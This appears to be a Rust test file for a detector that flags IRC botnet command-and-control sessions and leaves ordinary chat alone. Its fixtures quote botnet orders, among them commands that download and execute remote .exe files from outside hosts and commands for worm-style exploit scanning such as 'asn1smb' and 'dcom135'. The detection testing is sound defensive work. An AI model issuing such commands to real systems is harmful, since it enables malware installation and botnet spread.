//! `irc_bot`: the sessions printed in S1 on any port; ordinary chat stays silent.

use contract::Finding;
use detectors::irc_bot::IrcBot;
use testkit::behaviour::{Making, Stage, irc};

/// A session by its lines: `>` from the client, `<` from the server; command, target or key or source, text.
fn session(port: u16, host: &str, lines: &[(char, &str, &str, &str, &str)]) -> Vec<Making> {
    let (orig, resp) = (format!("{host}:1042"), format!("198.51.100.9:{port}"));
    let rows = lines.iter().enumerate().map(|(number, (side, command, target, extra, text))| {
        // One flow, one id: the stage makes the id from ends and time, so all lines but the first take that of the first.
        let making = irc(number as f64, &orig, &resp, *side == '>', command, target, text);
        let making = making.with("uid", model::Uid::connection(&[host.as_bytes(), &port.to_be_bytes()]));
        if *command == "JOIN" { making.text("key", extra) } else { making.text("source", extra) }
    });
    rows.collect()
}

fn found(events: Vec<Making>) -> Vec<Finding> {
    let mut stage = Stage::new(&IrcBot);
    events.into_iter().for_each(|making| stage.see(&making.event()));
    stage.findings()
}

const IDLE: &[(char, &str, &str, &str, &str)] = &[
    ('>', "NICK", "", "", "oomvp23"),
    ('>', "USER", "", "", "slave"),
    ('>', "JOIN", "#msbots8", "slavesofms", ""),
    ('<', "PRIVMSG", "#msbots8", "Y1129!lbycq66@p.example", "Slave Y1129 reporting, proxy - 2 , IPv4 address is 192.168.123.113 . ."),
    ('<', "PRIVMSG", "#msbots8", "SEXP-OTE!vffec19@s.example", "Slave sexp-ote reporting, proxy - 2 , IPv4 address is 149.121.240.113 . ."),
    (
        '<',
        "PRIVMSG",
        "#msbots8",
        "NB-SANDER-XP!dksqo49@i.example",
        "Slave NB-SANDER-XP reporting, proxy - 2 , IPv4 address is 192.168.2.2 . .",
    ),
];
const DOWNLOAD: &[(char, &str, &str, &str, &str)] = &[
    ('>', "NICK", "", "", "Bot|9277"),
    ('>', "JOIN", "#server#", "send.", ""),
    ('<', "332", "#server#", "STA", ".dl http://www.gizahost.com/htri/sbr.exe aaaananz4.exe 1"),
    ('>', "PRIVMSG", "#server#", "", "[DOWNLOAD]: Downloading URL: http://www.gizahost.com/htri/sbr.exe to: aaaananz4.exe."),
];
const SCAN: &[(char, &str, &str, &str, &str)] = &[
    ('>', "NICK", "", "", "JPN|425015894"),
    ('>', "JOIN", "#.to.", "teamz", ""),
    ('<', "332", "#.to.", "STA", ".asc asn1smb 300 2 0 -r -s"),
    ('<', "PRIVMSG", "#.to.", "SaBeR!admin@admin.com", ".k teamall"),
    ('>', "PRIVMSG", "#.to.", "", "[MAIN]: Password accepted."),
    ('<', "TOPIC", "#.to.", "SaBeR!admin@admin.com", ".asc dcom135 200 0 0 -r -s"),
];
const PIRATES: &[(char, &str, &str, &str, &str)] = &[
    ('>', "NICK", "", "", "[x]IqRkpiH"),
    ('>', "JOIN", "#hotgirls", "", ""),
    (
        '<',
        "332",
        "#hotgirls",
        "hub",
        "* download http://www.home.no/chirir0za/wnguards.exe -e -s ] [ * ipscan i.i.i.i mssql2000 -s ][ * wormride -s -t",
    ),
];

#[test]
fn the_sessions_of_s1_are_found_on_every_port_with_their_orders() {
    for port in [21, 80, 443, 6667, 51234] {
        for (lines, order) in [(DOWNLOAD, ".dl http://"), (SCAN, ".asc asn1smb"), (PIRATES, "* download http://")] {
            let findings = found(session(port, "10.0.0.5", lines));
            let last = findings.last().expect("a finding");
            assert!(last.quotes.iter().any(|quote| quote.starts_with(order.as_bytes())), "{port} {order}");
            assert!(last.confidence >= 88, "{port} {order}: {}", last.confidence);
        }
        assert!(found(session(port, "10.0.0.5", IDLE)).iter().any(|finding| finding.confidence >= 88), "{port}");
    }
}

#[test]
fn two_hosts_that_answer_alike_are_bots() {
    let line = |host| session(6667, host, &[('>', "PRIVMSG", "#c", "", "I am ready for you, master 17")]);
    let joined = |host| session(6667, host, &[('>', "NICK", "", "", "USA|4711423"), ('>', "JOIN", "#c", "k", "")]);
    let all = [joined("10.0.0.5"), joined("10.0.0.6"), line("10.0.0.5"), line("10.0.0.6")].concat();
    assert_eq!(found(all).len(), 1);
}

#[test]
fn people_who_chat_are_no_bots() {
    let lines = [
        ('>', "NICK", "", "", "alice_77"),
        ('>', "JOIN", "#rust", "secret", ""),
        ('<', "332", "#rust", "irc.example", "Download 1.95 at https://example.org/rust-setup.exe | !help for help"),
        ('<', "PRIVMSG", "#rust", "bob!b@h.example", "did you download it? I get http://example.org/x.exe"),
        ('>', "PRIVMSG", "#rust", "", "yes, downloaded it and it scans my disk"),
        ('<', "PRIVMSG", "#rust", "helper!h@h.example", "!seen alice"),
        ('>', "NOTICE", "#rust", "", "update: I am away"),
    ];
    for port in [6667, 8080] {
        assert_eq!(found(session(port, "10.0.0.5", &lines)), []);
    }
}
